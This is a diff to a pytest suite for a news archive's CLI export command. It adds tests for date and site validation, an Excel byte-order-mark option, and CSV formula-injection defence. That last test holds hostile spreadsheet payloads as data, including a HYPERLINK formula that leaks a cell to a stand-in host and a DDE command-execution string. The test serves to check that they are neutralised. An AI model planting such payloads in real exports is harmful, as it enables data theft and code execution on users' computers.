@@ -18,7 +18,7 @@ import pytest
 from click.testing import CliRunner
 
 from district_archive.cli import main
-from pipelines.export import ExportError, export_rows, plan_export
+from pipelines.export import ExportError, export_rows, neutralise_formula, plan_export
 from pipelines.store import Archive
 from pipelines.text import fold
 from tests.conftest import ROOT
@@ -68,7 +68,8 @@ def test_every_format_round_trips_every_row(archive_path, db, fmt, table):
     key = next(iter(expected[0]))
     for got, want in zip(rows, expected):
         if fmt == "csv":  # CSV is text: compare as text
-            assert got == {k: "" if v is None else str(v) for k, v in want.items()}
+            assert got == {k: "" if v is None else str(neutralise_formula(v))
+                           for k, v in want.items()}
         else:
             assert got == want
 
@@ -147,13 +148,32 @@ def test_filters_combine_on_linked_tables(archive_path, db):
     (["--table", "pages", "--search", "x"], "--search does not apply to pages"),
     (["--table", "articles", "--since", "last year"], "'last year' is not a date"),
     (["--table", "articles", "--search", "  \" "], "has no word to search for"),
+    (["--table", "articles", "--since", "2024-13"], "'2024-13' is not a date"),
+    (["--table", "articles", "--since", "2024-02-30"], "'2024-02-30' is not a date"),
+    (["--table", "articles", "--until", "2023-02-29"], "'2023-02-29' is not a date"),
+    (["--table", "articles", "--since", "2024-00"], "'2024-00' is not a date"),
+    (["--table", "articles", "--since", "2025", "--until", "2024"],
+     "--since 2025 is after --until 2024"),
+    (["--table", "statistics", "--since", "2024-03-16", "--until", "2024-03-15"],
+     "is after --until"),
+    (["--table", "articles", "--site", "nosuch"],
+     "no site 'nosuch' in this archive; its sites: kienthuy, tankhe"),
+    (["--table", "statistics", "--site", "nosuch"], "no site 'nosuch'"),
 ])
 def test_errors_say_what_to_do_and_write_nothing(archive_path, tmp_path, args, message):
+    """Every one is a usage error: exit 2, as click's own and every other command's."""
     target = tmp_path / "out.csv"
     result = CliRunner().invoke(main, ["export", "--db", str(archive_path), *args,
                                        "-o", str(target)])
-    assert result.exit_code == 1 and message in result.output
+    assert result.exit_code == 2 and message in result.output
     assert not target.exists()
+
+
+@pytest.mark.parametrize("since,until", [("2024-02-29", None), ("2024-03-15", "2024-03"),
+                                         ("2024", "2024-12-31"), (None, "2025")])
+def test_real_dates_and_periods_that_can_hold_rows_are_accepted(archive_path, since, until):
+    args = [*(["--since", since] if since else []), *(["--until", until] if until else [])]
+    export(archive_path, "--table", "articles", *args)
 
 
 def test_missing_archive_is_a_clear_error(tmp_path):
@@ -236,3 +256,42 @@ def test_no_progress_bar_when_not_a_terminal(archive_path, tmp_path):
     assert result.returncode == 0
     assert result.stderr.strip().splitlines() == [
         f"exported {sum(1 for _ in csv.DictReader(target.open(encoding='utf-8')))} rows from articles"]
+
+
+def test_excel_csv_begins_with_a_bom_and_holds_the_same_rows(archive_path, tmp_path):
+    """Windows Excel reads a CSV without a byte-order mark in the ANSI code page: mojibake."""
+    plain = tmp_path / "plain.csv"
+    export(archive_path, "--table", "articles", "-o", str(plain))
+    target = tmp_path / "articles.csv"
+    result = CliRunner().invoke(main, ["export", "--db", str(archive_path), "--table", "articles",
+                                       "--excel", "-o", str(target)])
+    assert result.exit_code == 0, result.output
+    raw = target.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and not raw[3:].startswith(b"\xef\xbb\xbf")
+    assert raw[3:] == plain.read_bytes()  # the same rows; without --excel no mark, as before
+    assert "Khen thưởng" in raw.decode("utf-8-sig")
+    json_with_bom = CliRunner().invoke(main, ["export", "--db", str(archive_path), "--table",
+                                              "articles", "--format", "json", "--excel"])
+    assert json_with_bom.exit_code == 2 and "--excel" in json_with_bom.output
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """OWASP CSV injection: text starting with = + - @ TAB CR gets a leading ' in CSV (numbers
+    and plain numbers in text stay as they are); JSON keeps the text verbatim."""
+    db = tmp_path / "archive.db"
+    archive = Archive(db)
+    hostile = ['=HYPERLINK("http://elsewhere.test/?"&A1,"xem")', "+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
+    harmless = ["-5", "+84", "12,5%", "Kiến Thụy", "", "a=b"]
+    archive.upsert_site({"id": "s", "name": "S", "family": "generic", "base_url": "http://s.test"})
+    for i, title in enumerate(hostile + harmless):
+        archive.store_article(None, {"url": f"http://s.test/{i}", "site": "s", "title": title,
+                                     "body_text": "x"})
+    archive.close()
+    out = CliRunner().invoke(main, ["export", "--db", str(db), "--table", "articles",
+                                    "--format", "csv"]).stdout
+    titles = [row["title"] for row in csv.DictReader(io.StringIO(out))]
+    assert titles == ["'" + t for t in hostile] + harmless
+    out = CliRunner().invoke(main, ["export", "--db", str(db), "--table", "articles",
+                                    "--format", "jsonl"]).stdout
+    assert [json.loads(line)["title"] for line in out.splitlines()] == hostile + harmless
